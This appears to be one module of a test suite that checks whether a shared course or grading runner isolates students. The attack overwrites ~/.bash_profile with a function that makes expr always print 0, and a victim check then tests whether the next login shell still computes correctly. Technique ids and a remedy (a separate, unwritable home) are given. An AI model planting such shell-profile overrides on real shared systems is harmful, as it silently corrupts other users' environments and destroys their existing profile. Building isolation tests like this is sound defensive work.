# SPDX-License-Identifier: MIT
"""Goal:  what the next student starts does something else.
Means: ~/.bash_profile, which a login shell reads before anything else. Runners call `bash -l -c`,
       so that the course's settings are there; the home folder is the same for all, and so is the
       file. No process is left behind, and no program is another one than before.
"""

import os
import subprocess

from attack import DONE, attempting, denied, failed

PLANTED = "expr() { echo 0; }\n"


def run(_brief):
    path = os.path.expanduser("~/.bash_profile")
    attempting()
    try:
        with open(path, "w", encoding="ascii") as file:
            file.write(PLANTED)
    except OSError as why:
        return denied(path, why)
    return DONE


def victim(_brief):
    """An exercise in shell; where processes are refused it is done on paper."""
    try:
        found = subprocess.run(["bash", "-l", "-c", "expr 6 '*' 7"], stdout=subprocess.PIPE,
                               check=False).stdout
    except OSError:
        return DONE
    return DONE if found == b"42\n" else failed("expr", found)


ATTACK = {
    "effect": "the next student's shell calculates with the attacker's function",
    "means": "~/.bash_profile, which a login shell reads first",
    "oracle": "victim",
    "scene": "before-victim",
    "needs": ["bash"],
    "attack_id": "T1546.004, CWE-459, CWE-427",
    "remedy": "a home folder of one's own, removed afterwards; a home that nobody may write to",
    "refs": ["bash(1), INVOCATION"],
    "run": run,
    "victim": victim,
}
